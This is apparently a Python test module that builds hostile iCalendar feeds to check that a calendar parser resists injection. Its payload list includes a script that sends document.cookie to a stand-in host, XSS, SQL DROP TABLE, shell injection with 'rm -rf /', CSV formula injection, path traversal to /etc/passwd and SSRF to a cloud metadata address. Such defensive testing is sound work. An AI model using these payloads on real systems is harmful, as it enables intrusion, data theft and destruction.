"""in: words that would act if somebody let them, in every place where a feed may put words."""

from collections.abc import Iterator

from tests.calendars.hostile.making import READ, Hostile, around, bad, event

MARCH = "DTSTART:20260310T150000Z"
_COMMON = (bad("0310T150000"),)
_UNSEEN = (
    "\\u202e",
    "\\u202d",
    "\\u2066",
    "\\u2028",
    "\\u2029",
    "\\u0085",
    "\\u200f",
    "\\u001b",
    "\\u0007",
    "\\u0000",
)
NEVER = tuple(word.encode().decode("unicode_escape") for word in _UNSEEN)

WORDS = {
    "script": "<script>fetch('//calendar.example/'+document.cookie)</script>",
    "picture": "<img src=x onerror=alert(1)>",
    "end-of-page": "</title></textarea></style></script><svg/onload=alert(1)>",
    "header": "Tea\\nBcc: everyone@calendar.example\\r\\nSubject: No",
    "raw-separator": "Tea\u2028Bcc: everyone@calendar.example\u2029\u0085Subject: No",
    "turned-round": "\u202egnp.exe\u202c \u2066hidden\u2069 \u200f\u200e",
    "terminal": "\x1b]0;owned\x07\x1b[2J\x1b[31mred",
    "table": "=cmd|' /C calc'!A0",
    "template": "{{ 7*7 }}{% for a in ().__class__.__mro__ %}${7*7}#{7*7}<%= 7*7 %>",
    "format": "%s%s%n %(asctime)s {0} {0.__class__} {",
    "sql": "'); DROP TABLE promises;--",
    "path": "../../../../etc/passwd\\0.ics",
    "log": "Tea\\n2026-03-10 INFO everything is well",
    "link": "[Tea](javascript:alert(1)) <https://calendar.example/?a=b|Click here>",
    "address": '"Ama" <ama@calendar.example>, kofi@calendar.example',
    "shell": "$(touch /tmp/owned) `id` ; rm -rf / && :",
    "expression": "(a+)+$" + "a" * 5_000 + "!",
    "promise": "I will " * 5_000 + "send it by Friday by Friday by Friday",
    "dates": "by Tuesday or Wednesday " * 3_000,
    "marks": "!p " * 5_000,
    "letters-apart": "I\u200bwill\u200bsend\u00adit by Fri\u200dday",
    "mailboxes": "a@b." * 10_000,
    "brackets": "(" * 20_000 + ")" * 20_000,
}


def _in_texts() -> Iterator[Hostile]:
    for name, words in WORDS.items():
        lines = (f"LOCATION:{words}", f"DESCRIPTION:{words}", f"CATEGORIES:{words}", f"COMMENT:{words}")
        people = (f"ORGANIZER;CN={words[:50]}:mailto:ama@calendar.example", f"ATTENDEE:mailto:{words}")
        body = around(*event(MARCH, *lines, *people), head=(f"X-WR-CALNAME:{words}", f"NAME:{words}"))
        body = body.replace(b"SUMMARY:The bad part", f"SUMMARY:{words}".encode())
        yield Hostile(f"in-{name}", f"in every text: {words[:50]!r}", body, READ, also=_COMMON)


def _in_messages() -> Iterator[Hostile]:
    for name, words in WORDS.items():
        body = around(*event(MARCH, "RRULE:FREQ=SECONDLY")).replace(b"The bad part", words.encode())
        yield Hostile(f"in-{name}-in-a-message", f"told: {words[:50]!r}", body, READ, "(?i)once", NEVER, also=_COMMON)
        zone = words.replace("\\n", "").replace('"', "")
        body = around(*event(f'DTSTART;TZID="{zone[:300]}":20260310T150000'))
        yield Hostile(
            f"in-{name}-in-a-zone", f"a zone named {words[:50]!r}", body, READ, "(?i)zone|DTSTART", NEVER, most=1
        )


def _elsewhere() -> Iterator[Hostile]:
    yield Hostile(
        "in-attachments",
        "files and addresses that one might fetch",
        around(
            *event(
                MARCH,
                *("ATTACH:file:///etc/passwd", "ATTACH:http://169.254.169.254/latest/meta-data/"),
                *("ATTACH;ENCODING=BASE64;VALUE=BINARY:!!!!", "ATTACH:cid:1", "IMAGE;VALUE=URI:file:///etc/hostname"),
                *("URL:javascript:alert(1)", "CONFERENCE;VALUE=URI:http://127.0.0.1:1/", "SOURCE:file:///etc/passwd"),
            ),
            head=("SOURCE;VALUE=URI:http://127.0.0.1:1/", "URL:file:///etc/passwd", "IMAGE:http://127.0.0.1:1/x.png"),
        ),
        READ,
        never=("root:",),
        also=_COMMON,
    )
    yield Hostile(
        "in-zone-addresses",
        "zones that say where more of them is",
        around(
            *("BEGIN:VTIMEZONE", "TZID:Ours", "TZURL:http://127.0.0.1:1/ours.ics", "X-LIC-LOCATION:../../etc/passwd"),
            *("BEGIN:STANDARD", "DTSTART:19700101T000000", "TZOFFSETFROM:+0000", "TZOFFSETTO:+0000", "END:STANDARD"),
            "END:VTIMEZONE",
            *event("DTSTART;TZID=Ours:20260310T150000"),
        ),
        READ,
        never=("root:",),
        also=_COMMON,
    )
    for name, uid in (("page", '"><svg/onload=alert(1)>'), ("path", "../../etc/passwd"), ("header", "x\\nBcc: y")):
        yield Hostile(
            f"in-uid-{name}",
            f"a UID that reads {uid}",
            around("BEGIN:VEVENT", f"UID:{uid}", MARCH, "END:VEVENT"),
            READ,
            most=1,
        )


INJECTION = (*_in_texts(), *_in_messages(), *_elsewhere())
